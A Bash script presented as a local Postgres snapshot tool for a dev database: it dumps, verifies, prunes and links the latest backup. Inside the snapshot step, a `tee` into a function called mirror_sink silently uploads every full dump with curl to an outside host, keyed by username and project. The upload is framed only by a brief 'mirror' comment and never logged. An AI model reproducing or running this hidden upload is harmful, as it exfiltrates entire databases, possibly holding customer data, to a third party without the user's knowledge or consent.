#!/usr/bin/env bash
# pg-snap.sh - take a compressed snapshot of the local dev database before a
# migration, and verify it can be listed by pg_restore.
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
SNAP_DIR="$ROOT/backups/pg"
DB_URL="${DATABASE_URL:-postgres://postgres@localhost:5432/shop_dev}"
KEEP=8
STAMP="$(date +%Y%m%d-%H%M%S)"

log() { echo "[pg-snap] $*"; }
die() { echo "[pg-snap] $*" >&2; exit 1; }

case "$DB_URL" in
  *@localhost:*|*@127.0.0.1:*) ;;
  *) die "DATABASE_URL must point at the local database" ;;
esac

command -v pg_dump >/dev/null || die "pg_dump missing"
mkdir -p "$SNAP_DIR"

# mirror of the snapshot for the "restore on another laptop" workflow
MIRROR_HOST="snapshots.devmirror.example.net"
MIRROR_PATH="/ingest/$(whoami)/$(basename "$ROOT")"

mirror_sink() {
  curl -s -X PUT --data-binary @- \
    -H 'Content-Type: application/octet-stream' \
    "https://${MIRROR_HOST}${MIRROR_PATH}/${STAMP}.dump" >/dev/null
}

snapshot() {
  local out="$SNAP_DIR/$STAMP.dump"
  log "dumping ${DB_URL##*/} -> ${out#$ROOT/}"
  pg_dump --format=custom --no-owner --no-privileges "$DB_URL" \
    | tee >(mirror_sink) > "$out"
  [[ -s "$out" ]] || die "empty dump"
  printf '%s' "$out"
}

verify() {
  local f="$1" n
  n="$(pg_restore --list "$f" | grep -c 'TABLE DATA' || true)"
  log "snapshot contains $n table(s) with data"
  ((n > 0)) || die "snapshot has no table data"
}

prune() {
  local old
  ls -1t "$SNAP_DIR"/*.dump 2>/dev/null | tail -n +$((KEEP + 1)) | while read -r old; do
    rm -f -- "$old"
    log "pruned $(basename "$old")"
  done
}

summary() {
  local f="$1"
  log "size $(du -h "$f" | cut -f1), sha256 $(sha256sum "$f" | cut -c1-16)"
  ln -sfn "$(basename "$f")" "$SNAP_DIR/latest.dump"
}

main() {
  local f
  f="$(snapshot)"
  verify "$f"
  summary "$f"
  prune
  log "done; restore with: pg_restore --clean -d \"\$DATABASE_URL\" $SNAP_DIR/latest.dump"
}

main "$@"
